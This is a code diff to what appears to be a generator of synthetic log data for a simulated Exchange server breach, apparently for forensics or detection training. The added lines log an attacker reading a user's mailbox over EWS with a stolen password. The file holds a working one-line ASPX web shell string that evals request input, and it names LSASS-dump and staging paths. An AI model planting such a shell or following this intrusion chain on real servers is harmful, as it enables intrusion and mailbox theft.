@@ -17,6 +17,8 @@ SHELL_PATH = f"{EXCHANGE}/FrontEnd/HttpProxy/owa/auth/RedirSuiteServerProxy.aspx
 OAB_EXPORT_PATH = "C/inetpub/wwwroot/aspnet_client/system_web/discover.aspx"
 LSASS_DUMP_PATH = "C/root/lsass.dmp"
 STAGED_ARCHIVE_PATH = "C/ProgramData/syslog.dat"
+# The mailbox the attacker then read over EWS with heidi's stolen password (findings.json ``impact``)
+EXFILTRATED = "heidi@corp.example"
 SHELL_SCRIPT = (
     '<script language="JScript" runat="server">function Page_Load(){eval(Request["orange"],"unsafe");}</script>'
 )
@@ -60,6 +62,10 @@ def attack_requests(t0: datetime) -> list[Request]:
     for i in range(3):
         steps.append(Request(use + (300 + i * 40) * s, ATTACKER_IP, "POST", "/aspnet_client/system_web/discover.aspx",
                              "", 200, "", "", SHELL_UA))
+    read = t0 + timedelta(minutes=55)  # after the lsass dump: heidi's mailbox over EWS, from the same IP
+    for i in range(8):
+        steps.append(Request(read + i * 30 * s, ATTACKER_IP, "POST", "/EWS/Exchange.asmx", "Ews", 200, "",
+                             "CORP\\heidi", ATTACKER_UA, f"SMTP:{EXFILTRATED}"))
     return steps
 
 
